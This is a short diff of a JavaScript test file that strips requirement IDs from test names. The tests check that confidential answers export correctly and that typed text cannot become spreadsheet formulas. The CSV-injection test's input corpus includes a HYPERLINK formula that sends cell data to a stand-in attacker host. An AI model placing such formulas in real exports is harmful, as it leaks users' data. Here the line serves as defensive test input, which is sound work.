@@ -136,7 +136,7 @@ test('a confidential answer stands there in clear only where that was asked for'
   await remove('before@example.org');
 });
 
-test('R48 an answer only encrypted at rest exports in clear, and a list of applications decrypts none', async () => {
+test('an answer only encrypted at rest exports in clear, and a list of applications decrypts none', async () => {
   const { secrets, config } = server.dependencies;
   const answers = {
     visa: 'F-1 ü',
@@ -177,7 +177,7 @@ test('R48 an answer only encrypted at rest exports in clear, and a list of appli
   await remove('sealed@example.org');
 });
 
-test('R57 no text that somebody typed is a formula in a spreadsheet, or a cell or a row of its own', async () => {
+test('no text that somebody typed is a formula in a spreadsheet, or a cell or a row of its own', async () => {
   const corpus = [
     '=HYPERLINK("https://evil.example?"&A1,"open")',
     '+1+1',
